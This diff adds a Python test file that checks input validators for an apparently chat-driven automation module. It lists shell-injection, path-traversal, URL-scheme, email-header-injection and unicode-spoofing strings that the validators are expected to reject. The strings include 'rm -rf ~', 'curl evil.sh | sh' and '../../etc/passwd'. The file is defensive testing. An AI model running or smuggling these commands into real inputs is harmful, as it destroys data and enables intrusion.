@@ -1,0 +1,151 @@
+from __future__ import annotations
+
+import pytest
+
+from milio.chat import payloads
+
+SHELL_ATTACKS = [
+    "discord; rm -rf ~",
+    "$(rm -rf ~)",
+    "`reboot`",
+    "discord && curl evil.sh | sh",
+    "discord\nrm -rf ~",
+    "discord\r",
+    "../../etc/passwd",
+    "..",
+    "a/b",
+    "a\\b",
+    "-rf",
+    ".bashrc",
+    'discord" ; open -a "Terminal',
+    "discord' & calc",
+    "name > /dev/null",
+    "{a,b}",
+    "x*",
+    "what?",
+    "bang!",
+    "~root",
+    "#comment",
+    "a|b",
+    "\u202ediscord",  # right-to-left override
+    "disc\u200bord",  # zero-width space
+    "discord\uff1b reboot",  # fullwidth semicolon
+    "discord\x00",
+    "",
+    "   ",
+    "a" * (payloads.NAME_MAX_CHARS + 1),
+    "two  spaces",
+]
+
+
+@pytest.mark.parametrize("attack", SHELL_ATTACKS)
+def test_name_refuses_shell_and_path_tricks(attack: str) -> None:
+    assert payloads.valid_name(attack) is None
+
+
+@pytest.mark.parametrize(
+    ("raw", "clean"),
+    [
+        ("discord", "discord"),
+        (" Visual Studio Code ", "Visual Studio Code"),
+        ("tax_2023", "tax_2023"),
+        ("café", "café"),
+        ("C++ notes", "C++ notes"),
+        ("v1.2", "v1.2"),
+    ],
+)
+def test_name_keeps_ordinary_names(raw: str, clean: str) -> None:
+    assert payloads.valid_name(raw) == clean
+
+
+@pytest.mark.parametrize("value", [None, 3, True, ["discord"], {"name": "x"}])
+def test_name_refuses_non_text(value: object) -> None:
+    assert payloads.valid_name(value) is None
+
+
+@pytest.mark.parametrize(("raw", "clean"), [("pdf", "pdf"), (".TXT", "txt"), ("mp4", "mp4")])
+def test_extension_is_short_alphanumeric(raw: str, clean: str) -> None:
+    assert payloads.valid_extension(raw) == clean
+
+
+@pytest.mark.parametrize("raw", ["p df", "pdf;", "tar.gz", "x" * 11, "", "ｐｄｆ", "../x"])
+def test_extension_refuses_anything_else(raw: str) -> None:
+    assert payloads.valid_extension(raw) is None
+
+
+@pytest.mark.parametrize(
+    ("raw", "clean"), [(120, "120"), ("90", "90"), (60.0, "60"), (86400, "86400")]
+)
+def test_seconds_accepts_whole_seconds_in_range(raw: object, clean: str) -> None:
+    assert payloads.valid_seconds(raw) == clean
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [0, -5, 86401, 10**30, 1.5, float("inf"), float("nan"), True, "1e9", "12;reboot", " ", "٣"],
+)
+def test_seconds_refuses_out_of_range_or_odd_numbers(raw: object) -> None:
+    assert payloads.valid_seconds(raw) is None
+
+
+@pytest.mark.parametrize(
+    ("raw", "clean"),
+    [(10, "10"), ("10", "10"), ("%10", "%10"), ("10%", "%10"), ("25 percent", "%25"), (100, "100")],
+)
+def test_volume_is_a_number_or_percentage(raw: object, clean: str) -> None:
+    assert payloads.valid_volume(raw) == clean
+
+
+@pytest.mark.parametrize("raw", [0, 101, "%0", "%101", "10%%", "%10;", "-5", 10**20, False, "ten"])
+def test_volume_refuses_anything_else(raw: object) -> None:
+    assert payloads.valid_volume(raw) is None
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["https://www.youtube.com/", "http://example.org/a?b=1&c=2#top", "https://a.b.co:8443/x%20y"],
+)
+def test_url_keeps_plain_web_addresses(url: str) -> None:
+    assert payloads.valid_url(url) == url
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(1)",
+        "file:///etc/passwd",
+        "ftp://example.com",
+        "https://example.com/$(reboot)",
+        'https://example.com/" & calc',
+        "https://example.com/`id`",
+        "https://exa mple.com",
+        "https://example.com/\nrm",
+        "https://user@evil.com",
+        "https://localhost/",
+        "https://-bad-.com",
+        "https://example.com/%PATH%",
+        "https://example.com:99999999999/",
+        "https://" + "a" * 2100 + ".com",
+        "example.com",
+    ],
+)
+def test_url_refuses_other_schemes_and_shell_characters(url: str) -> None:
+    assert payloads.valid_url(url) is None
+
+
+def test_email_parts() -> None:
+    assert payloads.valid_email_address("bob@example.com") == "bob@example.com"
+    for bad in ["bob", "bob@example", "bob@example.com\r\nBcc: x@y.z", "a b@c.de", "-x@y.com;"]:
+        assert payloads.valid_email_address(bad) is None
+    assert payloads.valid_subject("Meeting at 5, don't be late") == "Meeting at 5, don't be late"
+    for bad in ["a\r\nBcc: x@y.z", "a|b", 'say "hi"', "<b>x</b>", "$HOME", "`id`"]:
+        assert payloads.valid_subject(bad) is None
+    assert payloads.valid_body("line one\nline two") is None  # refused, not rewritten
+
+
+def test_optional_accepts_absence_but_still_checks_values() -> None:
+    check = payloads.optional(payloads.valid_name)
+    assert check(None) == ""
+    assert check("  ") == ""
+    assert check("gym") == "gym"
+    assert check("a;b") is None
